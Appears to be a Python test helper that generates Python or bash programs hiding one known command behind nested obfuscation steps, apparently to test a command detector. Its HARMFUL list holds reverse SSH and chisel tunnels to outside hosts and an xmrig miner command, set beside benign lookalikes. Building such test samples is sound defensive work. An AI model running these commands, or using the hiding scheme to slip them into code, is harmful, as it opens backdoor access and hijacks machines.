"""Compositions: programs in Python or bash that run one known command, hidden by random steps.

Takes a `random.Random` and an argv; gives the program's text, its language and the steps taken.
Steps nest: text inside text, code of one language inside the other, blocks around code.
"""

from __future__ import annotations

import random
from dataclasses import dataclass

from tests.read.compositions import bash_programs, python_programs
from tests.read.compositions.spelling import Pen

MOST_CODE = 2
"""How often code may stand inside code."""
MOST_TEXT = 3
"""How often a string may be hidden inside another spelling."""
HARMFUL = (
    ("ssh", "-N", "-R", "2222:localhost:22", "agent@203.0.113.5"),
    ("ssh", "-fNR", "8022:127.0.0.1:22", "ops@relay.example"),
    ("ssh", "-N", "-o", "ServerAliveInterval=30", "-R", "0.0.0.0:9000:localhost:3000", "u@203.0.113.9"),
    ("xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet.rig", "--donate-level", "1"),
    ("chisel", "client", "203.0.113.8:8080", "R:2222:localhost:22"),
)
TWINS = (
    ("ssh", "-N", "-L", "5432:localhost:5432", "dev@db.example"),
    ("ssh", "dev@build.example", "uptime"),
    ("git", "status", "--short"),
    ("git", "log", "-n", "3"),
    ("ls", "-R", "/tmp"),
    ("rsync", "-a", "-R", "src", "dev@build.example:/srv"),
    ("pytest", "-R", "tests"),
    ("make", "-j4", "test"),
)
PROGRAMS = tuple(sorted({argv[0] for argv in (*HARMFUL, *TWINS)}))


@dataclass(frozen=True, slots=True)
class Composition:
    """A program that hides a command, and how it was made."""

    language: str
    text: str
    argv: tuple[str, ...]
    steps: tuple[str, ...]


def compose(draw: random.Random, argv: tuple[str, ...], language: str = "") -> Composition:
    """Hide a command in a program of a language, or of one that is drawn."""
    pen = Pen(draw)
    language = language or pen.pick(("python", "bash"))
    text = _program(pen, language, argv, pen.pick((0, 0, 1, 1, MOST_CODE)))
    return Composition(language, text, argv, tuple(dict.fromkeys(pen.steps)))


def _program(outer: Pen, language: str, argv: tuple[str, ...], nesting: int) -> str:
    pen = outer.fresh()
    programs = python_programs if language == "python" else bash_programs
    depth = pen.pick((0, 1, 1, 2, 2, MOST_TEXT))
    if nesting:
        inner = pen.pick(("python", "bash"))
        programs.run_text(pen, inner, _program(pen, inner, argv, nesting - 1), min(depth, 2))
    else:
        programs.run_argv(pen, argv, depth)
    lines = pen.lines
    for _ in range(pen.pick((0, 0, 1, 2))):
        lines = programs.enclose(pen, lines)
    return "\n".join(lines) + "\n"
